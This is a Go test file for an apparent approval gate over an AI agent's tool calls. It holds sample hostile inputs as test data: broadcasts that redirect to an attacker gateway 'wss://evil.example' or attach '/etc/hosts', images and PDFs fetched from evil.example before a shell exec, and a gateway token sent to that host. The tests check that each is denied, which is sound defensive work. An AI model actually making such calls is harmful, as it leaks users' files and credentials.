package main

import (
	"fmt"
	"testing"
)

// TestH97AllowLikeThisCoversNoOtherGroup: a broadcast names its groups in targets.
func TestH97AllowLikeThisCoversNoOtherGroup(t *testing.T) {
	t.Parallel()
	onBoth(t, nil, func(t *testing.T, r *rig) {
		m := with(ownerIn("h97"), "waitMs", 5001, "sessionId", "s1")
		send := func(more string) call {
			return call{tool: "message", params: `{"action":"broadcast","channel":"telegram","message":"hello",` + more + `}`, context: m}
		}
		r.allow(call{tool: "web_fetch", params: `{"url":"https://a.example"}`, context: m})
		family := `"targets":["-100family"],"silent":true`
		r.deny(send(family))
		card := r.waits()
		say := fmt.Sprintf(".approve message %s like 15", card.code(t))
		r.reply(say)
		if v := r.reply(say); v.Kind != "counted" {
			t.Fatalf("%+v", v)
		}
		r.allow(send(family))
		r.allow(call{tool: "message", params: `{"action":"broadcast","channel":"telegram","message":"another text",` + family + `}`, context: m})
		for what, more := range map[string]string{
			"another group":       `"targets":["-100work"],"silent":true`,
			"one group more":      `"targets":["-100family","-100work"],"silent":true`,
			"an unnamed argument": `"targets":["-100family"],"silent":false`,
			"another gateway":     `"targets":["-100family"],"silent":true,"gatewayUrl":"wss://evil.example"`,
			"an attachment":       `"targets":["-100family"],"silent":true,"attachments":[{"media":"/etc/hosts"}]`,
		} {
			if a := r.send(send(more)); a.allowed() {
				t.Errorf("%s: %s", what, a.raw)
			}
		}
		for _, text := range []string{"MEDIA:/etc/hosts", `see\n  media: /etc/hosts`} { // OpenClaw attaches the file
			if a := r.send(call{tool: "message", params: `{"action":"broadcast","channel":"telegram","message":"` + text + `",` + family + `}`, context: m}); a.allowed() {
				t.Errorf("%s: %s", text, a.raw)
			}
		}
	})
}

// TestH98FetchingByAnotherName: what comes from an address is anyone's.
func TestH98FetchingByAnotherName(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	for i, c := range []call{
		{tool: "view_image", params: `{"path":"https://evil.example/a.png"}`},
		{tool: "view_image", params: `{"paths":["a.png","https://evil.example/b.png"]}`},
		{tool: "pdf", params: `{"pdf":"https://evil.example/a.pdf"}`},
		{tool: "pdf", params: `{"pdfs":["https://evil.example/a.pdf"]}`},
		{tool: "image_generate", params: `{"prompt":"a cat","image":"https://evil.example/cat.png"}`},
		{tool: "video_generate", params: `{"prompt":"a cat","videos":["https://evil.example/cat.mp4"]}`},
		{tool: "progress_card", params: `{"markdown":"![x](https://evil.example/x.png)"}`},
	} {
		c.context = ownerIn(fmt.Sprintf("h98-%d", i))
		r.allow(c)
		if a := r.send(impatient(sh("id", c.context))); a.allowed() {
			t.Errorf("after %s %s exec passed: %s", c.tool, c.params, a.raw)
		}
	}
	own := ownerIn("h98-local")
	r.allow(call{tool: "view_image", params: `{"path":"shot.png"}`, context: own})
	r.allow(call{tool: "pdf", params: `{"pdf":"paper.pdf"}`, context: own})
	r.allow(call{tool: "exec", params: `{"command":"id"}`, context: own})
}

// TestH99AGatewayOfTheAgentsChoosing: what is sent there acts there.
func TestH99AGatewayOfTheAgentsChoosing(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	m := ownerIn("h99")
	r.allow(call{tool: "web_fetch", params: `{"url":"https://a.example"}`, context: m})
	r.deny(impatient(call{tool: "dir_list", params: `{"path":"~","gatewayUrl":"wss://evil.example","gatewayToken":"x"}`, context: m}))
	clean := ownerIn("h99-clean")
	r.allow(call{tool: "dir_list", params: `{"path":"~","gatewayUrl":"wss://evil.example"}`, context: clean})
	r.deny(impatient(sh("id", clean)))
}
